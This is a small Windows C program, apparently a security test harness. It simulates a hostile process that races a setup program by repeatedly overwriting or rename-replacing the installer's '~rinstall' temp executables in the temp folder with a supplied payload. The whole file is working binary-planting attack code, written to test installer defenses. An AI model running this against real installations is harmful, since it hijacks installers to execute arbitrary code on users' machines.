/* Plays a program that shares the temp folder with the setup program: until the file %VR_SWAP_STOP%
 * exists it keeps putting its own program (argv[1]) in place of every file it can find or guess that a
 * temp copy has had as its name, in the temp folder and in any folder there whose name starts with
 * "~rinstall": overwriting it, and replacing it by a rename. Test use only. */
#include <windows.h>

static const wchar_t* payload;
static wchar_t temp[MAX_PATH];

static void Plant(const wchar_t* target) {
  wchar_t staged[MAX_PATH + 16];
  CopyFileW(payload, target, FALSE);
  wsprintfW(staged, L"%s.swp", target);
  if (CopyFileW(payload, staged, FALSE) && !MoveFileExW(staged, target, MOVEFILE_REPLACE_EXISTING))
    DeleteFileW(staged);
}

static void Round(void) {
  wchar_t pattern[MAX_PATH + 16], path[2 * MAX_PATH];
  int n;
  wsprintfW(path, L"%s~rinstall.exe", temp);
  Plant(path);
  for (n = 0; n < 100; ++n) {
    wsprintfW(path, L"%s~rinstall%d.exe", temp, n);
    Plant(path);
  }
  wsprintfW(pattern, L"%s~rinstall*", temp);
  WIN32_FIND_DATAW found;
  HANDLE find = FindFirstFileW(pattern, &found);
  if (find == INVALID_HANDLE_VALUE) return;
  do {
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
      wsprintfW(path, L"%s%s\\~rinstall.exe", temp, found.cFileName);
      Plant(path);
    }
  } while (FindNextFileW(find, &found));
  FindClose(find);
}

int wmain(int argc, wchar_t** argv) {
  wchar_t stop[1024];
  if (argc < 2 || !GetEnvironmentVariableW(L"VR_SWAP_STOP", stop, 1024)) return 2;
  payload = argv[1];
  GetTempPathW(MAX_PATH, temp);
  while (GetFileAttributesW(stop) == INVALID_FILE_ATTRIBUTES) Round();
  return 0;
}
